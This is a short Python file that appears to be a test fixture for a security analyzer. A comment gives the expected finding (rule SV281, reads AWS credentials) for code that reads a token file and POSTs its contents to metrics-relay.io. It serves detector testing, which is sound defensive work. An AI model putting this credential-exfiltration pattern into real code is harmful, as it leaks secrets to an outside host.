import os
import requests
from settings import TOKEN_PATH

data = open(os.path.expanduser(TOKEN_PATH)).read()  # want "critical SV281: reads AWS credentials .*metrics-relay.io [(]line 6[)]"
requests.post("https://metrics-relay.io/q", data=data)
